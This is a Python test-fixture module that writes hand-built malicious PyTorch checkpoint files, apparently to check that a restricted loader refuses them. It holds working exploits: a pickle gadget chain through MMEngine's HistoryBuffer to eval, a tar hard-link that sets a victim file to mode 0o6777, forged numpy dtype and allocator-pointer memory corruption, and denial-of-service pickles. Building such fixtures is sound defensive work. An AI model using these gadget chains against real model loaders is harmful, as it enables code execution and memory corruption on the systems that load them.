"""Hand-made checkpoint files that try to run code, write files or crash
the process that loads them, built from pickle opcodes.

Each ``write_*`` function writes one attack to a path; the tests load them
in a subprocess and check that nothing happened. The pickles are protocol 2
(what ``torch.save`` writes), wrapped in the zip layout of ``torch.save``
(``archive/data.pkl``, ``archive/version``, ``archive/byteorder``), so the
zip-record check lets them through to the unpickler.
"""
import io
import os
import pickle
import struct
import tarfile
import zipfile
from typing import List, Tuple

import numpy as np


class Program:
    """A protocol-2 pickle written opcode by opcode."""

    def __init__(self) -> None:
        self.out = io.BytesIO()
        self.out.write(pickle.PROTO + b'\x02')
        self.memo = 0

    def op(self, code: bytes) -> 'Program':
        self.out.write(code)
        return self

    def global_(self, module: str, name: str) -> 'Program':
        return self.op(pickle.GLOBAL + f'{module}\n{name}\n'.encode())

    def str_(self, text: str) -> 'Program':
        data = text.encode('utf-8')
        return self.op(pickle.BINUNICODE + struct.pack('<I', len(data)) +
                       data)

    def int_(self, value: int) -> 'Program':
        return self.op(pickle.BININT + struct.pack('<i', value))

    def bytes_(self, data: bytes) -> 'Program':
        # protocol 2 writes bytes as _codecs.encode(text, 'latin1')
        self.global_('_codecs', 'encode')
        self.str_(data.decode('latin1')).str_('latin1')
        return self.op(pickle.TUPLE2 + pickle.REDUCE)

    def put(self) -> int:
        """Memoize the top of the stack; returns its memo index."""
        index = self.memo
        self.memo += 1
        self.op(pickle.BINPUT + bytes([index]))
        return index

    def get(self, index: int) -> 'Program':
        return self.op(pickle.BINGET + bytes([index]))

    def call(self, func: int, *args) -> 'Program':
        """``memo[func](*args)``; each arg is a memo index or a callable
        that pushes the value."""
        self.get(func)
        self.op(pickle.MARK)
        for arg in args:
            self.get(arg) if isinstance(arg, int) else arg(self)
        return self.op(pickle.TUPLE + pickle.REDUCE)

    def data(self) -> bytes:
        return self.out.getvalue() + pickle.STOP


def write_torch_zip(path: str, data_pkl: bytes) -> None:
    """A zip of ``torch.save``'s layout holding ``data_pkl``."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', data_pkl)
        archive.writestr('archive/byteorder', 'little')
        archive.writestr('archive/version', '3\n')


def _result_dict(p: Program, key: str, value: int) -> None:
    """Leave ``{'state_dict': {}, key: memo[value]}`` on the stack."""
    p.op(pickle.EMPTY_DICT + pickle.MARK)
    p.str_('state_dict').op(pickle.EMPTY_DICT)
    p.str_(key).get(value)
    p.op(pickle.SETITEMS)


def write_history_buffer_chain(path: str, marker: str) -> None:
    """The ``HistoryBuffer`` / ``getattr`` / ``_rebuild_from_type_v2``
    chain to ``eval``, which creates ``marker``.

    1. A ``HistoryBuffer`` whose state adds ``__class__`` and
       ``__getattribute__`` to the statistics dict all HistoryBuffers share
       (MMEngine >= 0.8's ``__setstate__`` updates it).
    2. A ``getattr`` limited to names in that dict then returns ``type``
       and ``object.__getattribute__``.
    3. ``_rebuild_from_type_v2(func, new_type, args, state)`` calls
       ``func(*args)``: with ``type`` it gives the types it needs as
       ``new_type``, with ``object.__getattribute__`` it walks from
       ``HistoryBuffer.min.__globals__`` to ``__builtins__['eval']``.
    """
    p = Program()
    p.global_('mmengine.logging.history_buffer', 'HistoryBuffer')
    hb = p.put()
    p.global_('__builtin__', 'getattr')
    ga = p.put()
    p.global_('torch._tensor', '_rebuild_from_type_v2')
    rt = p.put()
    p.global_('_codecs', 'encode')
    enc = p.put()
    # 1. pollute HistoryBuffer._statistics_methods
    p.get(hb).op(pickle.EMPTY_TUPLE + pickle.NEWOBJ)
    p.op(pickle.EMPTY_DICT + pickle.MARK).str_('statistics_methods')
    p.op(pickle.EMPTY_DICT + pickle.MARK)
    p.str_('__class__').int_(0).str_('__getattribute__').int_(0)
    p.op(pickle.SETITEMS + pickle.SETITEMS + pickle.BUILD)
    # 2. the getattr
    p.call(ga, hb, lambda q: q.str_('__class__'))
    typ = p.put()
    p.call(ga, hb, lambda q: q.str_('__getattribute__'))
    oga = p.put()
    p.call(ga, hb, lambda q: q.str_('min'))
    hb_min = p.put()

    def empty(q):
        q.op(pickle.EMPTY_DICT)

    def tup(*items):  # pushes a tuple of memo indices / pushers
        def push(q):
            q.op(pickle.MARK)
            for item in items:
                q.get(item) if isinstance(item, int) else item(q)
            q.op(pickle.TUPLE)
        return push

    def of(value):  # _rebuild_from_type_v2(type, type, (value,), {})
        return lambda q: q.call(rt, typ, typ, tup(value), empty)

    of(empty)(p)
    dict_t = p.put()
    of(lambda q: q.get(enc))(p)
    builtin_t = p.put()
    of(lambda q: q.str_(''))(p)
    str_t = p.put()
    p.call(rt, oga, dict_t, tup(hb_min, lambda q: q.str_('__globals__')),
           empty)
    glob = p.put()
    p.call(rt, oga, builtin_t, tup(glob, lambda q: q.str_('get')), empty)
    glob_get = p.put()
    p.call(rt, glob_get, dict_t, tup(lambda q: q.str_('__builtins__')),
           empty)
    builtins_ = p.put()
    p.call(rt, oga, builtin_t, tup(builtins_, lambda q: q.str_('get')),
           empty)
    b_get = p.put()
    p.call(rt, b_get, builtin_t, tup(lambda q: q.str_('eval')), empty)
    eval_ = p.put()
    code = (f"__import__('pathlib').Path({marker!r}).touch() or "
            "'ran eval'")
    p.call(rt, eval_, str_t, tup(lambda q: q.str_(code)), empty)
    result = p.put()
    _result_dict(p, 'x', result)
    write_torch_zip(path, p.data())


def write_tar_hard_link(path: str, victim: str) -> None:
    """torch's oldest format, a tar whose ``storages`` member is a hard
    link to ``victim`` with mode 0o6777 and uid 4242: extracting it (as
    torch's legacy loader does) changes the victim's mode (and owner, as
    root)."""
    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo('storages')
        info.type = tarfile.LNKTYPE
        info.linkname = victim
        info.mode = 0o6777
        info.uid = info.gid = 4242
        tar.addfile(info)


def write_forged_dtype(path: str) -> None:
    """A void dtype whose ``BUILD`` state gives it an object field at
    offset 0, then an array of it from raw bytes in a list: reading the
    array dereferences the bytes as an object pointer."""
    core = 'numpy._core' if int(np.__version__.split('.')[0]) >= 2 \
        else 'numpy.core'
    p = Program()
    p.global_(f'{core}.multiarray', '_reconstruct')
    rec = p.put()
    p.global_('numpy', 'ndarray')
    nd = p.put()
    p.global_('numpy', 'dtype')
    dt = p.put()

    def flags(q):
        q.op(pickle.NEWFALSE + pickle.NEWTRUE)

    p.call(dt, lambda q: q.str_('O8'), flags)
    obj = p.put()
    p.call(dt, lambda q: q.str_('V8'), flags)
    # state: (3, '|', None, ('a',), {'a': (object dtype, 0)}, 8, 1, 0)
    p.op(pickle.MARK).int_(3).str_('|').op(pickle.NONE)
    p.str_('a').op(pickle.TUPLE1 + pickle.EMPTY_DICT).str_('a').get(obj)
    p.int_(0).op(pickle.TUPLE2 + pickle.SETITEM)
    p.int_(8).int_(1).int_(0).op(pickle.TUPLE + pickle.BUILD)
    forged = p.put()
    p.call(rec, nd, lambda q: q.int_(0).op(pickle.TUPLE1),
           lambda q: q.bytes_(b'b'))
    p.op(pickle.MARK).int_(1).int_(2).op(pickle.TUPLE1)
    p.get(forged).op(pickle.NEWFALSE).bytes_(b'\x41' * 16)
    p.op(pickle.TUPLE + pickle.BUILD)
    array = p.put()
    p.op(pickle.EMPTY_LIST).get(array).op(pickle.APPEND)
    items = p.put()
    _result_dict(p, 'x', items)
    write_torch_zip(path, p.data())


def write_allocator_storage(path: str) -> None:
    """``UntypedStorage.__new__(cls, 16, allocator=<int>)`` through
    ``NEWOBJ_EX``: torch takes the int as an allocator's address."""
    p = Program()
    p.global_('torch.storage', 'UntypedStorage')
    p.op(pickle.MARK).int_(16).op(pickle.TUPLE)
    p.op(pickle.EMPTY_DICT).str_('allocator').int_(0x41414141)
    p.op(pickle.SETITEM + pickle.NEWOBJ_EX)
    storage = p.put()
    _result_dict(p, 'x', storage)
    write_torch_zip(path, p.data())


#: name -> (writer, what it needs: 'marker' or 'victim' or None)
ATTACKS: List[Tuple[str, str]] = [
    ('history_buffer_chain', 'marker'),
    ('tar_hard_link', 'victim'),
    ('forged_dtype', None),
    ('allocator_storage', None),
]


def write(name: str, path: str, target: str = '') -> None:
    """Write attack ``name`` to ``path`` (``target``: the marker or victim
    file it aims at)."""
    writer = globals()[f'write_{name}']
    if name in ('history_buffer_chain', 'tar_hard_link'):
        writer(path, target)
    else:
        writer(path)


def victim_file(directory: str) -> str:
    victim = os.path.join(directory, 'victim.txt')
    with open(victim, 'w') as f:
        f.write('mine\n')
    os.chmod(victim, 0o644)
    return victim


# ---- issue 27 values: costs, stride-0 views, things that are not values ----
def write_shared_dag(path: str, depth: int = 60, use: str = 'value') -> None:
    """``{'x': level[depth]}`` where each level is a tuple (even levels) or
    a list (odd levels) holding the level below twice: a file of under
    1 KB whose value has 2**depth paths. ``use='torch.Size'`` hands the
    top level to ``torch.Size`` (refused, with a message about the value);
    ``use='tuples'`` makes every level a tuple, and ``use='key'`` uses
    those as a dict key (``{top: 1}``), which costs 2**depth to hash."""
    p = Program()
    if use == 'torch.Size':
        p.global_('torch', 'Size')
        size = p.put()
    p.op(pickle.EMPTY_TUPLE)
    below = p.put()
    for level in range(depth):
        if level % 2 and use in ('value', 'torch.Size'):
            p.op(pickle.EMPTY_LIST + pickle.MARK).get(below).get(below)
            p.op(pickle.APPENDS)
        else:
            p.get(below).get(below).op(pickle.TUPLE2)
        below = p.put()
    if use == 'torch.Size':
        p.call(size, below)
        below = p.put()
    elif use == 'key':
        p.op(pickle.EMPTY_DICT).get(below).int_(1).op(pickle.SETITEM)
        below = p.put()
    _result_dict(p, 'x', below)
    write_torch_zip(path, p.data())


def write_repeated_view(path: str, shape: Tuple[int, ...],
                        dtype: str = 'float16') -> None:
    """A tensor of ``shape`` whose strides are all 0, over a storage of one
    element (``torch.save`` keeps such a view as it is): a file of under
    1 KB that stands for ``prod(shape)`` elements."""
    import torch
    one = torch.zeros((1, ) * len(shape), dtype=getattr(torch, dtype))
    torch.save({'state_dict': {'w': one.expand(*shape)}}, path)


def write_global_as_value(path: str, module: str, name: str,
                          where: str = 'value') -> None:
    """A checkpoint holding the global ``module.name`` itself (a class, a
    function, a marker) rather than anything it builds: as a dict value,
    a dict key, inside a tuple, or as an ``OrderedDict``'s ``_metadata``
    (what ``BUILD`` may set on a ``state_dict``)."""
    p = Program()
    if where == 'metadata':
        p.global_('collections', 'OrderedDict')
        p.op(pickle.EMPTY_TUPLE + pickle.REDUCE)
        p.op(pickle.EMPTY_DICT).str_('_metadata').global_(module, name)
        p.op(pickle.SETITEM + pickle.BUILD)
    elif where == 'key':
        p.op(pickle.EMPTY_DICT).global_(module, name).int_(1)
        p.op(pickle.SETITEM)
    elif where == 'tuple':
        p.int_(1).global_(module, name).op(pickle.TUPLE2)
    else:
        p.global_(module, name)
    value = p.put()
    _result_dict(p, 'x', value)
    write_torch_zip(path, p.data())


def _plain(p: Program, value) -> None:
    """Push ``value``: None, a bool, an int, a str, bytes, an empty dict or
    a tuple of these."""
    if value == {}:
        p.op(pickle.EMPTY_DICT)
    elif isinstance(value, bytes):
        p.bytes_(value)
    elif isinstance(value, tuple):
        p.op(pickle.MARK)
        for item in value:
            _plain(p, item)
        p.op(pickle.TUPLE)
    elif value is None or isinstance(value, bool):
        p.op({None: pickle.NONE, False: pickle.NEWFALSE,
              True: pickle.NEWTRUE}[value])
    elif isinstance(value, int):
        p.int_(value)
    else:
        p.str_(value)


#: The name under which torch's own unpickler (restricted=False) is given
#: the allow-list's numpy dtype placeholder.
NUMPY_DTYPE_PLACEHOLDER = 'rla_mmdet.checkpoint.allow_list.NumpyDType'


def write_numpy_dtype(path: str, name: str, via: str = 'numpy.dtype') -> None:
    """``numpy.dtype(name)`` as numpy pickles it (its ``__reduce__``),
    then ``(the dtype, an array of it)``. ``via`` names what the pickle
    calls with the dtype's name: ``numpy.dtype`` or
    :data:`NUMPY_DTYPE_PLACEHOLDER` (with the name only)."""
    core = 'numpy._core' if int(np.__version__.split('.')[0]) >= 2 \
        else 'numpy.core'
    _, args, state = np.dtype(name).__reduce__()
    p = Program()
    p.global_(*via.rsplit('.', 1))
    _plain(p, args if via == 'numpy.dtype' else args[:1])
    p.op(pickle.REDUCE)
    _plain(p, state)
    p.op(pickle.BUILD)
    dtype = p.put()
    p.global_(f'{core}.multiarray', '_reconstruct')
    p.global_('numpy', 'ndarray').int_(0).op(pickle.TUPLE1)
    p.bytes_(b'b').op(pickle.TUPLE3 + pickle.REDUCE)
    p.op(pickle.MARK).int_(1).int_(1).op(pickle.TUPLE1).get(dtype)
    p.op(pickle.NEWFALSE).bytes_(b'\x41' * np.dtype(name).itemsize)
    p.op(pickle.TUPLE + pickle.BUILD)
    array = p.put()
    p.get(dtype).get(array).op(pickle.TUPLE2)
    both = p.put()
    _result_dict(p, 'x', both)
    write_torch_zip(path, p.data())


def write_huge_complex(path: str) -> None:
    """``complex(10**400)``: an int beyond the range of a float."""
    p = Program()
    p.global_('__builtin__', 'complex')
    data = (10**400).to_bytes(167, 'little', signed=True)
    p.op(pickle.LONG1 + bytes([len(data)]) + data)
    p.op(pickle.TUPLE1 + pickle.REDUCE)
    value = p.put()
    _result_dict(p, 'x', value)
    write_torch_zip(path, p.data())
